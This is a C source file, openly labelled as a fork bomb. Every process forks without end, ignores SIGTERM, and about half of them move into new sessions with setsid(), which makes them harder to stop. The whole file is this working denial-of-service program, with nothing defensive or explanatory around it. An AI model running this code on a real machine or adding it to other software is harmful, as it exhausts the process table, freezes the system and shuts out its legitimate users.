// A fork bomb: every process forks as fast as it can, every other one in its own session, and all ignore TERM.
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
  signal(SIGTERM, SIG_IGN);
  signal(SIGCHLD, SIG_IGN); // zombies are reaped automatically
  puts("storming");
  fflush(stdout);
  if (fork() != 0) pause();
  for (;;) {
    pid_t child = fork();
    if (child < 0) usleep(5000);
    if (child == 0 && getpid() % 2 == 0) setsid();
  }
}
